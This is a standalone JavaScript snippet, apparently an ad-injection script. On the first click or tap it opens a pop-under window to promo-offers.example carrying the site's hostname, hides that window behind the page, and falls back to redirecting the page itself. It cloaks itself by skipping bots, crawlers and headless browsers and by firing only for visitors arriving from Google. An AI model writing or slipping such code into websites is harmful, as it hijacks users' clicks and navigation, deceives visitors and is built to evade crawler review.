(function () {
  var shown = false;
  var target = "https://promo-offers.example/lp?src=" + encodeURIComponent(location.hostname);
  function pop() {
    if (shown) return;
    shown = true;
    var w = window.open(target, "_blank", "width=1024,height=768,scrollbars=yes");
    if (w) { w.blur(); window.focus(); }
    else { setTimeout(function () { window.location.href = target; }, 300); }
  }
  var ua = navigator.userAgent;
  if (/bot|crawl|spider|headless/i.test(ua) || document.referrer.indexOf("google") < 0) return;
  document.addEventListener("click", pop, true);
  document.addEventListener("touchend", pop, true);
})();
